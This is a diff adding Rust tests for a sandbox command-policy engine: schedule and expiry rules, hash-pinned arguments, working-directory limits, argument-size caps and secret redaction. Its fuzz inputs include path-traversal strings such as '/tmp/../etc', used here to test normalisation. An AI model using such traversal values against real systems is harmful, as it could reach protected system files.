+    fn validity_rule_limits_when_commands_may_run() {
+        let main = r#"package sandbox.main
+
+default allow = false
+
+allow if input.command in {"deploy", "date"}
+
+validity := {
+  "validUntil": "2026-07-01",
+  "schedule": {"days": ["mon", "tue", "wed", "thu", "fri"], "from": "09:00", "until": "17:00"}
+} if input.command == "deploy"
+"#;
+        // Monday 2026-01-05 10:00 UTC, 2026-01-10 is a Saturday.
+        let monday = std::time::UNIX_EPOCH + Duration::from_secs(1_767_607_200);
+        let saturday = monday + Duration::from_secs(5 * 86_400);
+        let engine_at = |now: SystemTime| {
+            PolicyEngine::from_modules(&[("main.rego", main)], Arc::new(FsHasher))
+                .expect("policy loads")
+                .with_clock(Arc::new(FixedClock(now)))
+        };
+        let evaluate = |engine: &PolicyEngine, command: &str| {
+            engine.evaluate_invocation(command, "/usr/bin/x", "hash", &[], &BTreeMap::new())
+        };
+
+        let decision = evaluate(&engine_at(monday), "deploy").expect("inside the window");
+        assert!(decision.validity.schedule.is_some());
+
+        let err = evaluate(&engine_at(saturday), "deploy").expect_err("weekend");
+        assert_eq!(
+            err.to_string(),
+            "Command not allowed at this time for 'deploy': outside schedule mon,tue,wed,thu,fri 09:00-17:00 UTC+00:00"
+        );
+        assert!(evaluate(&engine_at(saturday), "date").is_ok());
+
+        let later = monday + Duration::from_secs(182 * 86_400);
+        assert!(matches!(
+            evaluate(&engine_at(later), "deploy"),
+            Err(ValidationError::OutsideValidity { details, .. }) if details == "expired at 2026-07-01"
+        ));
+    }
+
+    #[test]
+    fn summary_lists_command_packages_and_descriptions() {
+        let engine = PolicyEngine::from_rego_for_tests(&[
+            (
+                "main.rego",
+                "package sandbox.main\n\ndefault allow = false\n\nallow if {\n  data.sandbox[input.command].allow\n}\n",
+            ),
+            (
+                "curl.rego",
+                "package sandbox.curl\n\ndescription := \"HEAD requests to example.com\"\n\nallow if {\n  input.args == [\"-I\", \"https://example.com\"]\n}\n",
+            ),
+            (
+                "date.rego",
+                "package sandbox.date\n\ndescription := concat(\" \", [\"date\", input.args[0]])\n\nallow if {\n  count(input.args) == 0\n}\n",
+            ),
+            (
+                "helpers.rego",
+                "package sandbox.lib.helpers\n\nsafe_url(url) if startswith(url, \"https://\")\n",
+            ),
+        ]);
+
+        let summary = engine.summary().expect("summary");
+        assert_eq!(summary.policy_mode, "rego");
+        let entry = |package: &str, command: Option<&str>, description: Option<&str>| {
+            PolicyPackageSummary {
+                package: package.to_string(),
+                command: command.map(str::to_string),
+                description: description.map(str::to_string),
+            }
+        };
+        assert_eq!(
+            summary.packages,
+            vec![
+                entry("sandbox.curl", Some("curl"), Some("HEAD requests to example.com")),
+                // Depends on input, so it is undefined when listing.
+                entry("sandbox.date", Some("date"), None),
+                entry("sandbox.lib.helpers", None, None),
+                entry("sandbox.main", None, None),
+            ]
+        );
+
+        let deny_all = PolicyEngine::from_sources(None).summary().expect("summary");
+        assert_eq!(deny_all.policy_mode, "deny-all");
+        assert!(deny_all.packages.is_empty());
+    }
+
+    /// Cases each `*_property` test runs; proptest shrinks a failure and records its seed
+    /// under `proptest-regressions/`.
+    const PROPERTY_CASES: u32 = 2000;
+
+    /// Values that mean something to the parsers, plus random noise.
+    fn string_strategy() -> impl Strategy<Value = String> {
+        const INTERESTING: &[&str] = &[
+            "stdout",
+            "stderr",
+            "sensitive",
+            "exact",
+            "prefix",
+            "regex",
+            "{workspace}",
+            "{workspace}/..",
+            "/",
+            "/tmp/../etc",
+            "relative/dir",
+            "(",
+            ".*",
+            "",
+        ];
+        prop_oneof![
+            prop::sample::select(INTERESTING).prop_map(str::to_string),
+            prop::collection::vec(any::<char>(), 0..8)
+                .prop_map(|chars| chars.into_iter().collect()),
+        ]
+    }
+
+    fn json_strategy() -> impl Strategy<Value = serde_json::Value> {
+        use serde_json::Value;
+
+        let leaf = prop_oneof![
+            Just(Value::Null),
+            any::<bool>().prop_map(Value::Bool),
+            any::<u64>().prop_map(Value::from),
+            any::<i64>().prop_map(Value::from),
+            (-5e5..5e5f64).prop_map(Value::from),
+            string_strategy().prop_map(Value::String),
+        ];
+        leaf.prop_recursive(3, 32, 4, |inner| {
+            prop_oneof![
+                prop::collection::vec(inner.clone(), 0..4).prop_map(Value::Array),
+                prop::collection::vec((string_strategy(), inner), 0..4)
+                    .prop_map(|entries| Value::Object(entries.into_iter().collect())),
+            ]
+        })
+    }
+
+    /// Absolute path built from `.`, `..` and short names, plus the components a stack-based
+    /// resolver keeps for it.
+    fn absolute_path_strategy() -> impl Strategy<Value = (PathBuf, Vec<&'static str>)> {
+        prop::collection::vec(prop::sample::select(&[".", "..", "ws", "a", "b"][..]), 0..10)
+            .prop_map(|components| {
+                let mut path = PathBuf::from("/");
+                let mut expected = Vec::new();
+                for component in components {
+                    path.push(component);
+                    match component {
+                        "." => {}
+                        ".." => {
+                            expected.pop();
+                        }
+                        name => expected.push(name),
+                    }
+                }
+                (path, expected)
+            })
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(PROPERTY_CASES))]
+
+        #[test]
+        fn decision_parsers_reject_malformed_values_without_panicking_property(
+            value in json_strategy()
+        ) {
+            let _ = parse_output_limits(&value);
+            let _ = parse_env_keys(&value);
+            let _ = parse_redact(&value);
+            for workspace in [None, Some(Path::new("/ws"))] {
+                let Ok(patterns) = parse_cwd_patterns(&value, workspace) else {
+                    continue;
+                };
+                for pattern in patterns {
+                    match pattern {
+                        CwdPattern::Exact(path) | CwdPattern::Prefix(path) => {
+                            prop_assert!(path.is_absolute());
+                            prop_assert_eq!(normalize_lexically(&path), path);
+                        }
+                        CwdPattern::Regex(pattern) => {
+                            prop_assert!(anchored_regex(&pattern).is_ok());
+                        }
+                    }
+                }
+            }
+        }
+
+        #[test]
+        fn normalize_lexically_matches_a_component_stack_property(
+            (path, expected) in absolute_path_strategy()
+        ) {
+            let normalized = normalize_lexically(&path);
+            let expected: PathBuf = std::iter::once("/").chain(expected).collect();
+            prop_assert_eq!(&normalized, &expected);
+            prop_assert_eq!(normalize_lexically(&normalized), normalized);
+        }
+    }
+
+    #[derive(Debug)]
+    struct TableHasher(BTreeMap<PathBuf, String>);
+
+    impl FileHasher for TableHasher {
+        fn hash_hex(&self, path: &Path, _algorithm: HashAlgorithm) -> std::io::Result<String> {
+            self.0
+                .get(path)
+                .cloned()
+                .ok_or_else(|| std::io::ErrorKind::NotFound.into())
+        }
+    }
+
+    fn table_hashed_engine() -> PolicyEngine {
+        let main = r#"package sandbox.main
+
+default allow = false
+
+allow if {
+  input.command == "tool"
+  file_hash("sha256", input.args[0]) == "pinned"
+}
+
+cwd_pattern := "{workspace}"
+"#;
+        let hasher = TableHasher(BTreeMap::from([
+            (PathBuf::from("/models/good"), "pinned".to_string()),
+            (PathBuf::from("/models/bad"), "tampered".to_string()),
+        ]));
+        PolicyEngine::from_modules(&[("main.rego", main)], Arc::new(hasher))
+            .expect("compile")
+            .with_workspace(PathBuf::from("/ws"))
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(PROPERTY_CASES))]
+
+        #[test]
+        fn authorize_invocation_is_decided_without_the_filesystem_property(
+            args in prop::collection::vec(
+                prop::sample::select(&["/models/good", "/models/bad", "/models/missing"][..])
+                    .prop_map(str::to_string),
+                0..3,
+            ),
+            (cwd, components) in absolute_path_strategy(),
+        ) {
+            static ENGINE: std::sync::LazyLock<PolicyEngine> =
+                std::sync::LazyLock::new(table_hashed_engine);
+            let context = InvocationContext {
+                client_id: None,
+                cwd: Some(cwd.clone()),
+                canonical_cwd: None,
+                hops: 0,
+            };
+
+            let result = ENGINE.authorize_invocation(
+                "tool",
+                "/usr/bin/tool",
+                "unused",
+                &args,
+                &BTreeMap::new(),
+                &context,
+            );
+            let pinned = args.first().map(String::as_str) == Some("/models/good");
+            let inside_workspace = components.first() == Some(&"ws");
+            match result {
+                Ok(_) => prop_assert!(pinned && inside_workspace),
+                Err(ValidationError::CwdNotAllowed { .. }) => {
+                    prop_assert!(pinned && !inside_workspace)
+                }
+                Err(_) => prop_assert!(!pinned),
+            }
+        }
+    }
+
+    #[test]
+    fn file_hash_accepts_every_supported_algorithm() {
+        let hasher = TableHasher(BTreeMap::from([(
+            PathBuf::from("/models/good"),
+            "pinned".to_string(),
+        )]));
+        for algorithm in ["sha256", "sha512", "blake3"] {
+            let args = vec![
+                regorus::Value::from(algorithm),
+                regorus::Value::from("/models/good"),
+            ];
+            let digest = file_hash_builtin(&hasher, args).expect(algorithm);
+            assert_eq!(digest, regorus::Value::from("pinned"));
+        }
+        let args = vec![
+            regorus::Value::from("md5"),
+            regorus::Value::from("/models/good"),
+        ];
+        let error = file_hash_builtin(&hasher, args).expect_err("md5");
+        assert!(error.to_string().contains("sha256, sha512 or blake3"));
+    }
+
+    #[test]
+    fn arg_limits_deny_oversized_invocations_before_the_policy() {
+        let main = "package sandbox.main\n\ndefault allow = true\n";
+        let hasher = Arc::new(TableHasher(BTreeMap::new()));
+        let engine = PolicyEngine::from_modules(&[("main.rego", main)], hasher)
+            .expect("compile")
+            .with_arg_limits(ArgLimits {
+                max_args: Some(2),
+                max_arg_bytes: Some(4),
+                max_command_line_bytes: Some(12),
+            });
+        let check = |args: &[&str]| {
+            let args: Vec<String> = args.iter().map(|arg| arg.to_string()).collect();
+            engine.validate_invocation("ls", "/bin/ls", "unused", &args, &BTreeMap::new())
+        };
+
+        assert!(check(&["-l", "a"]).is_ok());
+        assert!(matches!(
+            check(&["a", "b", "c"]),
+            Err(ValidationError::TooManyArgs { count: 3, limit: 2, .. })
+        ));
+        assert!(matches!(
+            check(&["a", "long!"]),
+            Err(ValidationError::ArgTooLong { index: 1, bytes: 5, limit: 4, .. })
+        ));
+        // "ls\0abcd\0abcd\0" is 13 bytes.
+        assert!(matches!(
+            check(&["abcd", "abcd"]),
+            Err(ValidationError::CommandLineTooLong { bytes: 13, limit: 12, .. })
+        ));
+
+        let unlimited = ArgLimits {
+            max_args: None,
+            max_arg_bytes: None,
+            max_command_line_bytes: None,
+        };
+        let args = vec!["x".repeat(DEFAULT_MAX_ARG_BYTES + 1)];
+        assert!(ArgLimits::default().check("ls", &args).is_err());
+        assert!(unlimited.check("ls", &args).is_ok());
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(PROPERTY_CASES))]
+
+        #[test]
+        fn redaction_never_leaks_sensitive_values_property(
+            // Lowercase values cannot be formed from the `[REDACTED]` marker itself.
+            values in prop::collection::vec("[a-z]{0,3}", 4),
+            marks in prop::collection::vec(any::<bool>(), 4),
+        ) {
+            let env: BTreeMap<String, String> = values
+                .into_iter()
+                .enumerate()
+                .map(|(index, value)| (format!("KEY_{index}"), value))
+                .collect();
+            let sensitive: BTreeSet<String> = env
+                .keys()
+                .zip(&marks)
+                .filter(|(_, marked)| **marked)
+                .map(|(key, _)| key.clone())
+                .collect();
+            let args: Vec<String> = (0..3)
+                .map(|_| env.values().cloned().collect::<Vec<_>>().join("-"))
+                .collect();
+            let decision = PolicyDecision {
+                sensitive_env: sensitive.clone(),
+                ..PolicyDecision::default()
+            };
+
+            for arg in decision.redact_args(&args, &env) {
+                for key in &sensitive {
+                    let value = &env[key];
+                    prop_assert!(
+                        value.is_empty() || !arg.contains(value.as_str()),
+                        "{}={} leaked in {}", key, value, arg
+                    );
+                }
+            }
+        }
+    }
 }